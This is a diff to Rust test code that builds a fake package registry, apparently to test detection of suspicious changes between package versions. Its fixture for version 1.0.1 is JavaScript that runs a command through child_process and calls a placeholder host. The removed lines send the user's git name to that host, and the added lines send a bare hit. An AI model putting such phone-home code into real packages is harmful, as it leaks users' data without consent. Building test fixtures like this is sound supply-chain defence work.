@@ -18,8 +18,8 @@ fn upstream() -> FakeUpstream {
     };
     upstream.publish(of("1.0.0", "module.exports = () => 1;\n", 100));
     let calls = "const { execSync } = require('child_process');\nconst https = require('https');\n\
-                 const who = execSync('git config user.name').toString();\n\
-                 https.request('https://counter.invalid/hit?n=' + who).end();\nmodule.exports = () => 1;\n";
+                 const made = execSync('git --version').toString().length > 0;\n\
+                 https.get('https://counter.invalid/hit');\nmodule.exports = () => made;\n";
     upstream
         .publish(of("1.0.1", calls, 90).file("index.js", &b"module.exports = require('./lib/start');\n"[..]));
     upstream
